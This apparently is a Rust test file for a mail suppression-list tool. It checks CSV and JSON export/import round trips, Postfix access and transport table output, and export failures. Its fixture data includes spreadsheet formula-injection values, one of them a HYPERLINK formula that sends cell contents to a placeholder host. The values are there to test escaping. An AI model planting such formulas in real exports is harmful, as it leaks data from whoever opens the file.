//! What goes out comes back the same, and what Postfix reads.

use super::process::Home;
use super::{LIST, imported, sample};

/// A list with everything in it that a list can hold; the same each time.
fn varied(home: &Home, entries: u64) {
    home.ok(&["list"]);
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    let mut below = |bound: u64| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % bound).unwrap()
    };
    let kinds = ["hard_bounce", "soft_bounce", "complaint", "unsubscribe", "added"];
    let notes = [
        "NULL",
        "'plain'",
        "'with, comma'",
        "'says \"no\"'",
        "'=1+1'",
        "'''=1+1'",
        "'''''-x'",
        "'+49 30 1234'",
        "'''tis'",
        "'a@b =1'",
        "'=HYPERLINK(\"http://x.example/?\"&A1&\"@\")'",
        "'''=a@b'",
        "'ümlaut; semicolon'",
        "'\"'",
        "'#'",
    ];
    let mut sql = String::from("BEGIN;");
    for number in 0..entries {
        let domain = ["example.com", "xn--bcher-kva.example", "[192.0.2.1]", "a.b.example.org"][below(4)];
        let local = ["bob", "\"two words", "o''neil", "jörg", "\"a,b", "bob+tag", "-x", "=1", "''=1"][below(9)];
        let address = match below(10) {
            0 => format!("@d{number}.{}", domain.trim_matches(['[', ']'])),
            1 => format!("@.d{number}.example"),
            _ if local.starts_with('"') => format!("{local}{number}\"@{domain}"),
            _ => format!("{local}{number}@{domain}"),
        };
        let stream = ["", "", "news", "a-b_1"][below(4)];
        let status = ["NULL", "'5.1.1'", "'4.2.2'"][below(3)];
        let until = ["NULL", "NULL", "'2099-01-01T00:00:00Z'"][below(3)];
        sql += &format!(
            "INSERT INTO suppression (address, stream, kind, reason, status, since, until, note) VALUES \
               ('{address}', '{stream}', '{}', '{}', {status}, '20{}-02-03T04:05:06Z', {until}, {});",
            kinds[below(5)],
            ["userunknown", "manual", "-own word", "=x"][below(4)],
            10 + below(16),
            notes[below(15)],
        );
    }
    home.sql(&(sql + "COMMIT"));
}

#[test]
fn what_is_exported_and_imported_is_the_same_list() {
    let all = "SELECT group_concat(address || '|' || stream || '|' || kind || '|' || reason || '|' || coalesce(status, '') || \
               '|' || since || '|' || coalesce(until, '') || '|' || coalesce(note, ''), char(10)) \
               FROM (SELECT * FROM suppression ORDER BY address, stream)";
    let home = Home::new();
    varied(&home, 500);
    let list = home.select(all);
    assert_eq!(list.lines().count(), 500);
    for form in ["csv", "json"] {
        let file = home.path(&format!("list.{form}"));
        let file = file.to_str().unwrap();
        home.ok(&["export", "-o", file]);
        assert_eq!(std::fs::read_to_string(file).unwrap(), home.ok(&["export", "--format", form]));
        let other = Home::new();
        let out = other.ok(&["import", "--apply", file]);
        assert!(out.starts_with(&format!("list.{form}: read as suppressd\n      500 added")), "{out}");
        let back = other.select(all);
        let different: Vec<_> = list.lines().zip(back.lines()).filter(|(one, other)| one != other).collect();
        assert!(different.is_empty() && back.len() == list.len(), "{form}: {different:?}");
        assert!(other.ok(&["import", file]).contains("      500 known\n"));
        assert_eq!(other.select("PRAGMA integrity_check"), "ok", "every constraint holds");
    }
}

#[test]
fn an_exported_access_table_comes_back_with_kind_and_day() {
    let home = Home::new();
    home.ok(&["import", "--apply", &sample("suppressd.csv")]);
    let text = home.ok(&["export", "--format", "access"]);
    let other = Home::new();
    imported(&other, &[], &text);
    assert_eq!(
        other.select(LIST),
        "@example.net added manual 5.7.1 2026-11-21T00:00:00Z -\n\
         carol@example.com hard_bounce userunknown 5.1.1 2026-11-21T00:00:00Z -\n\
         erin@example.com complaint policy 5.7.1 2026-11-21T00:00:00Z -"
    );
}

#[test]
fn text_for_postmap_leaves_out_what_would_be_a_comment_and_says_so() {
    let home = Home::new();
    home.ok(&["add", "#bob@example.com", "bob#@example.com"]);
    for format in ["access", "transport"] {
        let file = home.path(format);
        for (ran, text) in [
            (home.run(&["export", "--format", format]), None),
            (home.run(&["export", "--format", format, "-o", file.to_str().unwrap()]), Some(&file)),
        ] {
            let text = text.map_or(ran.out, |file| std::fs::read_to_string(file).unwrap());
            assert!(text.starts_with("bob#@example.com ") && text.lines().count() == 1, "{text}");
            assert!(ran.err.contains(": 1 keys on the list that begin with # are left out: postmap(1)"), "{}", ran.err);
        }
    }
    let cdb = home.path("t.cdb");
    assert_eq!(home.run(&["export", "-o", cdb.to_str().unwrap()]).err, "");
    assert!(std::fs::read(cdb).unwrap().windows(16).any(|key| key == b"#bob@example.com"));
}

#[test]
fn tables_leave_out_what_is_over_or_allowed() {
    let home = Home::new();
    home.ok(&["list"]);
    home.sql(
        "INSERT INTO suppression (address, until) VALUES ('past@example.com', '2020-01-01T00:00:00Z'); \
         INSERT INTO suppression (address) VALUES ('bob@example.com'), ('@gone.example'), ('@.parent.example'), ('@all.example'); \
         INSERT INTO suppression (address, stream) VALUES ('bob@example.com', 'news'), ('eve@example.com', 'news'); \
         INSERT INTO allow (address, until) VALUES ('friend@gone.example', '2099-01-01T00:00:00Z'), \
           ('@sub.parent.example', '2099-01-01T00:00:00Z'), ('@all.example', '2099-01-01T00:00:00Z'), \
           ('nobody@example.com', '2099-01-01T00:00:00Z'), ('other@gone.example', '2020-01-01T00:00:00Z')",
    );
    let keys = |args: &[&str]| {
        let out = home.ok(&[&["export"], args].concat());
        let mut lines: Vec<_> = out.lines().map(|line| line.split(' ').take(2).collect::<Vec<_>>().join(" ")).collect();
        lines.sort();
        lines.join("; ")
    };
    assert_eq!(
        keys(&["--format", "access"]),
        ".parent.example 550; bob@example.com 550; friend@gone.example DUNNO; gone.example 550; sub.parent.example DUNNO"
    );
    assert_eq!(
        keys(&["--format", "transport", "--stream", "news"]),
        ".parent.example error:5.7.1; bob@example.com error:5.7.1; eve@example.com error:5.7.1; friend@gone.example :; \
         gone.example error:5.7.1; sub.parent.example :"
    );
    assert_eq!(keys(&["--format", "access", "--kind", "complaint"]), "");
    assert_eq!(home.ok(&["export"]).lines().count(), 7, "the list itself is whole");
    assert_eq!(home.ok(&["export", "--stream", "news"]).lines().count(), 3);
}

#[test]
fn a_database_goes_into_a_file_and_a_failure_leaves_the_old_one() {
    let home = Home::new();
    home.ok(&["add", "bob@example.com"]);
    let ran = home.run(&["export", "--format", "cdb"]);
    let sentence = "suppressd: a database goes into a file; name it with --output\n";
    assert_eq!((ran.status, ran.err.as_str()), (Some(2), sentence));
    for name in ["nowhere/t.cdb", "nowhere/t.lmdb", "nowhere/t.csv"] {
        let ran = home.run(&["export", "-o", name]);
        let sentence = format!("suppressd: cannot write {name}: No such file or directory (os error 2)\n");
        assert_eq!((ran.status, ran.err), (Some(2), sentence));
    }
    home.ok(&["export", "-o", "t.lmdb"]);
    let old = std::fs::read(home.path("t.lmdb")).unwrap();
    for file in ["suppressd.db", "suppressd.db-wal"] {
        std::fs::write(home.path(file), "not a database at all, just some text that is long enough").unwrap();
    }
    assert_eq!(home.run(&["export", "-o", "t.lmdb"]).status, Some(2));
    assert_eq!(std::fs::read(home.path("t.lmdb")).unwrap(), old);
}
